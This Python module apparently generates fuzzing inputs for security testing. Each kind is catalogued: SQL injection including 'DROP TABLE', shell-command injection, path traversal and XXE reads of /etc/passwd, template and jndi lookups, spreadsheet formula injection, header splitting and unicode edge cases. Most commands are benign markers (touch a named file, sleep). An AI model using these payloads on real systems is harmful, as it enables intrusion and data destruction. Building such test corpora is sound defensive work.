"""Texts that mean something to whoever takes them for more than text: made by kinds, none copied from a list.

Whatever would act would be seen: a delay is longer than any client waits, a command leaves a file of a known name.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from typing import Final

MARK: Final = "lgsp-was-here"
"""In the name of every file that a command would make."""
_DELAY_S: Final = 600
_QUOTES: Final = ("'", '"', "`", "')", "'))", '")', "\\'", "\u2019", "%27", "\u02bc")
_AFTER: Final = (
    f" OR 1=1 -- {MARK}",
    f"; SELECT pg_sleep({_DELAY_S}); --",
    f" UNION SELECT NULL,NULL,(SELECT count(*) FROM pg_sleep({_DELAY_S})) --",
    "; DROP TABLE workers; --",
    f"||(SELECT randomblob({10**9}))||",
)


def _sql() -> Iterator[str]:
    for at, quote in enumerate(_QUOTES):
        yield quote + _AFTER[at % len(_AFTER)]
    yield from ("1 OR 1=1", "%", "_", "\\", "%%%_%%%", ":name", "%(name)s", "$1", "?", "{0}", "E'\\047'")
    yield from ("'; COMMIT; --")


def _no_sql() -> Iterator[str]:
    yield from ('{"$gt": ""}', "[$ne]=1", '{"$where": "while(true){}"}', "'; while(true){}; '")
    yield from ("*)(uid=*))(|(uid=*", "*")


def _shell() -> Iterator[str]:
    command = f"touch {MARK}; sleep {_DELAY_S}"
    for form in (
        "; {}",
        "| {}",
        "|| {}",
        "&& {}",
        "$({})",
        "`{}`",
        "\n{}\n",
        "' ; {} #",
        '" ; {} #',
        "& {} &",
        "%0a{}",
    ):
        yield form.format(command)
    yield from ("-rf", "--help", "~root", "*", "$HOME", "${IFS}", ">" + MARK, "<" + MARK)


def _paths() -> Iterator[str]:
    for step in ("../", "..\\", "%2e%2e/", "..%2f", "..%c0%af", "....//", "%252e%252e%252f"):
        yield step * 8 + "etc/passwd"
    yield from ("/etc/passwd\x00.png", "file:///etc/passwd", "C:\\boot.ini", "\\\\host\\share", "CON")
    yield from ("/dev/zero", ".", "..")


def _templates() -> Iterator[str]:
    yield from ("{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{%raw%}", "{0.__class__}", "{name!r}")
    yield from ("%s%s%n%x", "${env:HOME}")
    yield from ("${jndi:ldap://127.0.0.1:9/a}", "[[${7*7}]]", "@(7*7)", "__import__('os').system('" + MARK + "')")


def _markup() -> Iterator[str]:
    yield from ("<b>", "</chiTiet>", "&", "&amp;", "&lt;", "&#0;", "&#x1f;", "&xxe;", "]]>", "<![CDATA[x]]>")
    yield from ("<!-- x --", "<?x?>")
    yield '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    yield '<!DOCTYPE a [<!ENTITY b "' + "x" * 40 + '"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
    yield "</soapenv:Body></soapenv:Envelope><soapenv:Envelope>"
    yield '"/><xi:include href="file:///etc/passwd"/>'
    yield "<script>fetch('/')</script>"
    yield '"onmouseover="x()'
    yield "javascript:x()"


def _lines() -> Iterator[str]:
    for end in ("\r\n", "\n", "\r", "\x0b", "\x0c", "\x85", "\u2028", "\u2029", "%0d%0a"):
        yield f'{end}Set-Cookie: a={MARK}{end}{{"event": "{MARK}"}}{end}'
    yield from ("\x1b[2J\x1b[31mred", "\x1b]0;title\x07", "\x9b31m", "a\bb\b", "\x7f" * 4, "a\tb", "\\r\\n")
    yield from ("\\u000a")


def _formulas() -> Iterator[str]:
    for sign in ("=", "+", "-", "@", "\t=", "\r=", "\x00=", "\uff1d", " =", '"=', "'="):
        yield f"{sign}cmd|'/C touch {MARK}'!A1"
    yield '=HYPERLINK("http://127.0.0.1:9/","x")'


def _unicode() -> Iterator[str]:
    yield from ("a\x00b", "\x00", "\u200b\u200c\u200d\u2060", "\ufeffa", "\u202etên\u202c", "\u2066a\u2069")
    yield from ("\u061c\u200e\u200f")
    yield from ("é", "e\u0301", "Nguyễn", "Nguye\u0302\u0303n", "e" + "\u0301" * 80, "\u1100\u1161\u11a8")
    yield from ("각", "ﬁ", "ẞß", "İi")
    yield from ("שלום", "مرحبا بالعالم", "हिन्दी", "漢字仮名", "𠜎𠜱", "🧑‍🌾👩‍👩‍👧", "\U000e0041\U000e007f")
    yield from ("\U0010ffff", "\ufffe", "\uffff")
    yield from (
        "\ue000",
        "１２３",
        "٠١٢",
        "Ð đ ɖ",
        "\u00ad",
        "\u3000",
        "\xa0",
        "\u2800",
        "ⅷ",
        "½",
        "ａ",
        "𝓪",
        "\u0338a",
    )


def _sizes() -> Iterator[str]:
    yield from ("", " ")
    yield from ("x" * 199, "x" * 255, "x" * 256, "ậ" * 500, "x" * 5_000, "🧑" * 255, " " * 2_000 + "x", "a " * 900)


def _words() -> Iterator[str]:
    yield from ("null", "None", "undefined", "NaN", "true", "False", "-1", "0", "1e999", "0x10")
    yield from ("2026-02-30", "0000-00-00", "[]", "{}")


KINDS: Final = {
    "SQL": tuple(_sql()),
    "NoSQL and LDAP": tuple(_no_sql()),
    "shell": tuple(_shell()),
    "paths": tuple(_paths()),
    "templates": tuple(_templates()),
    "markup": tuple(_markup()),
    "lines and terminals": tuple(_lines()),
    "formulas": tuple(_formulas()),
    "unicode": tuple(_unicode()),
    "sizes": tuple(_sizes()),
    "words": tuple(_words()),
}


def mixed(seed: int, count: int) -> Iterator[str]:
    """Two or three of them in one, cut somewhere."""
    chance = random.Random(seed)
    every = [text for texts in KINDS.values() for text in texts if len(text) < 100]
    for _ in range(count):
        text = "".join(chance.choices(every, k=chance.randint(2, 3)))
        yield text[chance.randrange(4) : chance.randint(8, 120)]
